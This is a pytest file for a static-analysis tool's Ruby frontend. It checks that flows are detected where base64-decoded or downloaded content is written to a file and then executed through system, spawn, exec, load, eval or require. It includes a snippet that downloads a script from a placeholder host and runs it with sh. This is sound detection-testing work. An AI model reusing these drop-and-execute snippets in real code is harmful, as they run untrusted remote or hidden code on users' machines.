"""Files that are written and then run."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.frontends.ruby.reading import apis, flows

CODE, PROCESS = Capability.CODE, Capability.PROCESS
HEAD = "require 'net/http'\np = place\nq = place\ntext = Base64.decode64(x)\n"


@pytest.mark.parametrize(
    ("source", "sink"),
    [
        ("File.write(p, text)\nsystem(p)", PROCESS),
        ("File.write('/tmp/run.sh', text)\nsystem('sh /tmp/run.sh')", PROCESS),
        ("File.write('/tmp/run.sh', text)\nspawn('sh', '/tmp/run.sh')", PROCESS),
        ("File.write(p, text)\n`sh #{p}`", PROCESS),
        ("r = p\nFile.write(r, text)\nsystem(p.to_s.shellescape)", PROCESS),
        ("File.write('/tmp/' + 'run.sh', text)\nexec('/tmp/run.sh')", PROCESS),
        ("File.write(File.join(d, 'run'), text)\nsystem(File.join(d, 'run'))", PROCESS),
        ("File.open(p, 'w') { |f| f.puts(text) }\nsystem(p)", PROCESS),
        ("File.open(p, 'w') { |f| [1].each { f.write(text) } }\nsystem(p)", PROCESS),
        ("f = Tempfile.create('a')\nf.write(text)\nsystem('sh', f.path)", PROCESS),
        ("Pathname.new(p).write(text)\nload(p)", CODE),
        ("File.write(p, text)\neval(File.read(p))", CODE),
        ("File.write('./a.rb', text)\nrequire './a.rb'", CODE),
    ],
)
def test_a_file_that_is_written_and_run_is_followed(source: str, sink: Capability) -> None:
    assert any(found is sink and Taint.DECODED in taints for found, _, taints in flows(HEAD + source))


def test_a_download_that_is_written_and_run_is_followed() -> None:
    source = "IO.copy_stream(URI.open('http://a.invalid/x'), '/tmp/x.sh')\nsystem('sh /tmp/x.sh')"

    assert (PROCESS, "Kernel.system", {Taint.NETWORK}) in flows(HEAD + source)


@pytest.mark.parametrize(
    "source",
    [
        "File.write(p, text)\nsystem(q)",
        "File.write(p, 'a')\nsystem(p)",
        "File.write('/tmp/a', text)\nsystem('ls /tmp/b')",
        "File.write(File.join(d, 'a'), text)\nsystem(File.join(d, 'b'))",
        "File.write('a', text)\nsystem('b a')",
    ],
)
def test_other_files_are_not(source: str) -> None:
    assert [] == [flow for flow in flows(HEAD + source) if flow[0] in {CODE, PROCESS}]


def test_code_that_is_written_and_run_is_read() -> None:
    source = "File.write(p, 'spawn(%q(id))')\nload p"

    assert ["Kernel.spawn"] == apis(HEAD + source, PROCESS)
    assert [] == apis(HEAD + source.replace("load p", "load q"), PROCESS)
